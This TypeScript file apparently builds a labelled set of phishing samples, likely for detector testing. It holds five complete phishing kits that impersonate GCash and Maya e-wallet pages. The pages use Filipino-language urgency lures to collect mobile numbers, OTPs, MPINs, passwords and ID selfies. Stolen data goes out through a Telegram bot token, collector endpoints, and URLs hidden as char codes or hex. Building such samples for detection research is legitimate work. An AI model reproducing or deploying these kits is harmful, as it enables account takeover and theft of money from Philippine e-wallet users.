import { htmlRoute, type Entry } from '../entry.js';
import { page, PH, mark, wordmark, svgData, hexOf, charCodes, digitBoxes, joinDigitsJs, telegramSendJs, ipLookupJs, peso } from '../parts/yw-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yw-gcash-mpin-otp-verify',
    label: 'phishing',
    kind: 'ewallet-mpin-kit',
    url: 'https://gcash-verify.ph-account.com/login?ref=txt&n=0917',
    routes: {
      'gcash-verify.ph-account.com/login': htmlRoute(
        page({
          title: 'GCash',
          lang: 'fil',
          head: `<link rel="icon" href="${svgData(mark(PH.gcash, 'G', 32, 16))}">`,
          css: `body{font-family:"Open Sans",Arial,sans-serif;background:${PH.gcash.main};color:#fff;min-height:100vh}.app{max-width:400px;margin:0 auto;padding:40px 26px}.logo{text-align:center;margin:20px 0 30px}.logo h1{font-size:34px;margin:8px 0 0;letter-spacing:-1px}.lbl{font-size:13px;opacity:.85}.num{display:flex;border-bottom:2px solid rgba(255,255,255,.6);margin:6px 0 22px}.num span{padding:12px 8px 12px 0;font-size:18px}.num input{flex:1;background:none;border:0;color:#fff;font-size:18px;outline:0}.btn{width:100%;background:#fff;color:${PH.gcash.main};border:0;border-radius:26px;padding:14px;font-size:16px;font-weight:700}.note{background:rgba(0,0,0,.15);border-radius:10px;padding:10px 12px;font-size:12px;margin-bottom:22px}.st{display:none}.st.on{display:block}.dg-row{display:flex;gap:10px;justify-content:center;margin:20px 0}.dg{width:42px;height:52px;border-radius:10px;border:0;font-size:22px;text-align:center;color:${PH.gcash.ink}}.pin .dg{width:50px}.small{text-align:center;font-size:12px;opacity:.8;margin-top:16px}`,
          body: `<div class="app">
<div class="logo">${mark({ ...PH.gcash, main: '#fff' }, 'G', 64, 32).replace('fill="#fff">G', `fill="${PH.gcash.main}">G`)}<h1>GCash</h1></div>
<div class="note">⚠ Paalala: Ang iyong GCash account ay pansamantalang na-limit dahil sa hindi kumpletong verification. I-verify ngayon para maiwasan ang permanenteng suspension.</div>
<div class="st on" id="s1"><div class="lbl">Enter your mobile number</div><div class="num"><span>+63</span><input id="msisdn" inputmode="numeric" maxlength="10" placeholder="9XX XXX XXXX"></div><button class="btn" onclick="n1()">NEXT</button></div>
<div class="st" id="s2"><div class="lbl" style="text-align:center">Authentication</div><p style="text-align:center;font-size:14px">Nagpadala kami ng 6-digit authentication code sa <b id="sh"></b></p>${digitBoxes(6, 'ac')}<button class="btn" onclick="n2()">SUBMIT</button><div class="small">Resend code in 0:59</div></div>
<div class="st pin" id="s3"><div class="lbl" style="text-align:center">Enter your 4-digit MPIN</div>${digitBoxes(4, 'mp', 'password', 'pn')}<button class="btn" onclick="n3()">LOG IN</button><div class="small">Never share your MPIN or authentication code with anyone.</div></div>
<div class="small">© 2025 G-Xchange, Inc. · Regulated by the BSP</div>
</div>
<script>
${telegramSendJs('kirim', "'7012458839:AAHq8fX2sLm0pV4tRz6cN1yWbK3dJ9eGoTu'", "'-4019938271'", 'GCASH PH')}
${ipLookupJs('https://ipapi.co/json/')}
var no='';
function sw(a,b){document.getElementById(a).classList.remove('on');document.getElementById(b).classList.add('on');}
function n1(){no=document.getElementById('msisdn').value.replace(/\\D/g,'');if(no.length!==10)return alert('Invalid mobile number');document.getElementById('sh').textContent='+63 '+no;kirim(['📱 +63'+no]);sw('s1','s2');}
function n2(){kirim(['📱 +63'+no,'🔑 OTP: '+${joinDigitsJs('ac', 6)}]);sw('s2','s3');}
function n3(){kirim(['📱 +63'+no,'🔒 MPIN: '+${joinDigitsJs('mp', 4)}]).then(function(){document.body.innerHTML='<div style="padding:80px 30px;text-align:center;font-family:Arial"><h2>Verified ✓</h2><p>Ang iyong account ay matagumpay na na-verify. Maaari mo nang isara ang pahinang ito.</p></div>';});}
</script>`,
        }),
      ),
    },
  },
  {
    id: 'yw-gcash-gcredit-limit-increase',
    label: 'phishing',
    kind: 'ewallet-credit-lure-kit',
    url: 'https://gcredit-increase.gcash-promo.top/apply',
    routes: {
      'gcredit-increase.gcash-promo.top/apply': htmlRoute(
        page({
          title: 'GCredit Limit Increase up to ₱50,000 | GCash',
          css: `body{font-family:Arial,sans-serif;background:#f2f6fc;color:#1b2b48}.bn{background:linear-gradient(135deg,${PH.gcash.main},#35a4ff);color:#fff;padding:28px 22px 60px}.bn h1{font-size:26px;margin:14px 0 6px}.bn .amt{font-size:40px;font-weight:800}.cd{background:#fff;margin:-40px 16px 16px;border-radius:16px;padding:20px;box-shadow:0 4px 18px rgba(0,60,160,.12)}.cd h3{margin-top:0}.f input,.f select{width:100%;padding:12px;margin:6px 0 12px;border:1px solid #d3dcea;border-radius:10px;font-size:15px}.go{width:100%;padding:14px;border:0;border-radius:28px;background:${PH.gcash.main};color:#fff;font-size:16px;font-weight:700}.ok{font-size:13px;color:#2e7d32}.tk{font-size:12px;color:#61708a;padding:0 20px}.tk li{margin:4px 0}#otp{display:none}`,
          body: `<div class="bn">${wordmark({ ...PH.gcash, ink: '#fff' }, 'GCash · GCredit', 26)}<h1>Congratulations! Pre-qualified ka para sa mas mataas na GCredit limit</h1><div class="amt">${peso(50000)}</div><small>Limited slots · Promo until Nov 30 · DTI-FTEB Permit No. 0871 s. 2025</small></div>
<div class="cd"><div id="app"><h3>Apply in 2 minutes</h3><div class="f">
<input id="fn" placeholder="Full name (as in valid ID)"><input id="mn" placeholder="GCash number 09XXXXXXXXX" inputmode="numeric" maxlength="11">
<input id="bd" type="date"><select id="inc"><option>Monthly income</option><option>₱10,000 – ₱20,000</option><option>₱20,001 – ₱40,000</option><option>₱40,001 and up</option></select>
<input id="pin" type="password" inputmode="numeric" maxlength="4" placeholder="4-digit MPIN (for GScore check)"></div>
<button class="go" id="a1">Check my new limit</button><p class="ok">✓ Walang bayad · ✓ Instant approval · ✓ No documents</p></div>
<div id="otp"><h3>Confirm your application</h3><p>Ilagay ang 6-digit code na ipinadala ng GCash sa iyong number.</p><div class="f"><input id="oc" maxlength="6" inputmode="numeric" placeholder="Authentication code"></div><button class="go" id="a2">Confirm</button></div></div>
<ul class="tk"><li>Ma***a of Quezon City increased to ₱35,000 — 2 mins ago</li><li>Je***y of Cebu increased to ₱50,000 — 5 mins ago</li><li>Ro***o of Davao increased to ₱28,000 — 9 mins ago</li></ul>
<script>
function $(i){return document.getElementById(i);}
function save(o){return fetch('/apply/save.php',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).catch(function(){});}
$('a1').onclick=function(){var d={name:$('fn').value,num:$('mn').value,bday:$('bd').value,inc:$('inc').value,mpin:$('pin').value};if(d.num.length<11||d.mpin.length<4)return alert('Please complete the form.');window._n=d.num;save(d).then(function(){$('app').style.display='none';$('otp').style.display='block';});};
$('a2').onclick=function(){save({num:window._n,otp:$('oc').value}).then(function(){alert('Your application is being processed. Your new limit will reflect within 24 hours.');location.href='https://www.gcash.com/services/gcredit';});};
</script>`,
        }),
      ),
      'gcredit-increase.gcash-promo.top/apply/save.php': jsonRoute({ s: 1 }),
    },
  },
  {
    id: 'yw-maya-kyc-downgrade-id-upload',
    label: 'phishing',
    kind: 'ewallet-kyc-kit',
    url: 'https://maya-ph.kyc-upgrade.online/upgrade/',
    routes: {
      'maya-ph.kyc-upgrade.online/upgrade/': htmlRoute(
        page({
          title: 'Maya | Upgrade your account',
          css: `body{font-family:"Inter",Arial,sans-serif;background:#0d0d0d;color:#fff}.w{max-width:420px;margin:0 auto;padding:28px 22px}.badge{display:inline-block;background:${PH.maya.main};color:#000;font-weight:800;padding:4px 10px;border-radius:20px;font-size:12px}h1{font-size:26px;line-height:1.2}.al{background:#2a1a1a;border:1px solid #ff5a5a;color:#ffb3b3;padding:12px;border-radius:12px;font-size:13px}.in{width:100%;background:#1b1b1b;border:1px solid #333;color:#fff;padding:14px;border-radius:12px;margin:6px 0 12px;font-size:15px}.lb{font-size:12px;color:#9a9a9a}.b{width:100%;background:${PH.maya.main};color:#000;border:0;padding:15px;border-radius:14px;font-weight:800;font-size:16px;margin-top:8px}.pr{height:6px;background:#222;border-radius:3px;margin:18px 0}.pr i{display:block;height:100%;width:33%;background:${PH.maya.main};border-radius:3px}`,
          body: `<div class="w">${wordmark({ ...PH.maya, ink: '#fff' }, 'maya', 30)}
<h1>Keep your Maya account <span style="color:${PH.maya.main}">Upgraded</span></h1>
<div class="al">Your account will be downgraded to <b>Basic</b> on ${'Nov 15, 2025'} because your ID verification has expired under BSP Circular 1140. Basic accounts cannot send money, pay bills or use Maya Savings.</div>
<div class="pr"><i></i></div>
<form method="post" action="submit.php" enctype="multipart/form-data" id="kyc">
<div class="lb">Mobile number</div><input class="in" name="mobile" placeholder="+63 9XX XXX XXXX" required>
<div class="lb">Password</div><input class="in" name="password" type="password" required>
<div class="lb">Government ID (front)</div><input class="in" name="id_front" type="file" accept="image/*">
<div class="lb">Selfie holding your ID</div><input class="in" name="selfie" type="file" accept="image/*" capture="user">
<div class="lb">One-time PIN sent to your number</div><input class="in" name="otp" inputmode="numeric" maxlength="6">
<button class="b">Upgrade now</button>
</form>
<p class="lb" style="margin-top:18px">Maya Philippines, Inc. is regulated by the Bangko Sentral ng Pilipinas. Maya Bank, Inc. deposits are insured by PDIC up to ₱1,000,000.</p></div>`,
        }),
      ),
      'maya-ph.kyc-upgrade.online/upgrade/submit.php': htmlRoute(page({ title: 'Maya', body: '<p style="font-family:Arial;padding:40px">Salamat! Your upgrade request has been received. Please wait 24-48 hours.</p><script>setTimeout(function(){location.href="https://www.maya.ph/"},2500)</script>' })),
    },
  },
  (() => {
    const form = `<div class="c"><h2>Log in to Maya</h2><p>Your Maya Savings interest payout of ₱1,845.20 is waiting. Log in to claim before it expires.</p><input id="a" placeholder="Mobile number" inputmode="numeric"><input id="b" type="password" placeholder="Password"><button id="g">Log in</button><small>Maya Philippines, Inc. · Regulated by the BSP</small></div>`;
    const endpoint = 'https://maya-api-auth.herokuapp.com/collect/v1';
    return {
      id: 'yw-maya-charcode-dom-builder',
      label: 'phishing',
      kind: 'obfuscated-ewallet-kit',
      url: 'https://maya-secure-login.vercel.app/',
      body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>maya</title><style>body{margin:0;font-family:Arial,sans-serif;background:#000;color:#fff}.c{max-width:360px;margin:60px auto;padding:24px}.c h2{color:${PH.maya.main}}.c input{display:block;width:100%;box-sizing:border-box;padding:14px;margin:8px 0;border-radius:12px;border:1px solid #333;background:#141414;color:#fff}.c button{width:100%;padding:14px;border:0;border-radius:12px;background:${PH.maya.main};font-weight:800;margin:8px 0}.c small{color:#777}</style></head><body><div id="r"></div>
<script>
var _k=[${charCodes(form, 3)}];
document.getElementById('r').innerHTML=_k.map(function(c){return String.fromCharCode(c-3);}).join('');
var _e=String.fromCharCode.apply(null,[${charCodes(endpoint)}]);
document.getElementById('g').onclick=function(){var x=new FormData();x.append('m',document.getElementById('a').value);x.append('p',document.getElementById('b').value);x.append('h',location.host);fetch(_e,{method:'POST',body:x,mode:'no-cors'}).finally(function(){location.href='https://www.maya.ph/login-help';});};
</script></body></html>`,
      routes: { 'maya-api-auth.herokuapp.com/collect/v1': jsonRoute({ ok: true }) },
    } satisfies Entry;
  })(),
  (() => {
    const endpoint = 'https://gcash-overseas.hk-ofw-verify.com/api/v3/collect';
    return {
      id: 'yw-gcash-overseas-ofw-hexcfg',
      label: 'phishing',
      kind: 'ewallet-ofw-kit',
      url: 'https://gcash-overseas.hk-ofw-verify.com/verify',
      body: page({
        title: 'GCash Overseas · Verify your international number',
        css: `body{font-family:Arial,sans-serif;background:${PH.gcash.soft};color:${PH.gcash.ink}}.top{background:${PH.gcash.main};padding:16px;color:#fff;text-align:center;font-weight:700}.wrap{max-width:420px;margin:20px auto;background:#fff;border-radius:14px;padding:22px;box-shadow:0 2px 14px rgba(0,80,200,.12)}.flags{display:flex;gap:6px;flex-wrap:wrap;font-size:12px;margin-bottom:10px}.flags span{background:${PH.gcash.soft};padding:4px 8px;border-radius:12px}select,input{width:100%;padding:12px;border:1px solid #c7d6ef;border-radius:10px;margin:6px 0 12px;font-size:15px}.row{display:flex;gap:8px}.row select{width:40%}.b{width:100%;padding:14px;border:0;border-radius:28px;background:${PH.gcash.main};color:#fff;font-weight:700}.faq{font-size:12px;color:#51607a}`,
        body: `<div class="top">GCash Overseas</div>
<div class="wrap"><div class="flags"><span>🇭🇰 Hong Kong</span><span>🇸🇬 Singapore</span><span>🇦🇪 UAE</span><span>🇸🇦 KSA</span><span>🇶🇦 Qatar</span></div>
<h2 style="margin:6px 0">Verify your international number</h2>
<p style="font-size:14px">Dear Kabayan, starting this month all GCash Overseas accounts must be re-verified to keep sending money home. Unverified accounts will be frozen and balances held for 90 days.</p>
<div class="row"><select id="cc"><option value="852">+852</option><option value="65">+65</option><option value="971">+971</option><option value="966">+966</option><option value="974">+974</option></select><input id="pn" placeholder="Mobile number" inputmode="numeric"></div>
<input id="mp" type="password" inputmode="numeric" maxlength="4" placeholder="4-digit MPIN">
<input id="ot" inputmode="numeric" maxlength="6" placeholder="6-digit authentication code (SMS)">
<button class="b" id="vb">Verify account</button>
<p class="faq">Need help? Chat with us on Messenger: GCash Overseas Help Desk (24/7). G-Xchange, Inc. is regulated by the Bangko Sentral ng Pilipinas.</p></div>
<script>
var h='${hexOf(endpoint)}',u='';for(var i=0;i<h.length;i+=2)u+=String.fromCharCode(parseInt(h.substr(i,2),16));
document.getElementById('vb').onclick=function(){var g=function(i){return document.getElementById(i).value;};fetch(u,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({cc:g('cc'),phone:g('pn'),mpin:g('mp'),otp:g('ot'),lang:navigator.language,tz:Intl.DateTimeFormat().resolvedOptions().timeZone})}).then(function(){document.querySelector('.wrap').innerHTML='<h2>Thank you, Kabayan!</h2><p>Your account is now verified. Ingat palagi!</p>';});};
</script>`,
      }),
      routes: { 'gcash-overseas.hk-ofw-verify.com/api/v3/collect': jsonRoute({ success: true }) },
    } satisfies Entry;
  })(),
];
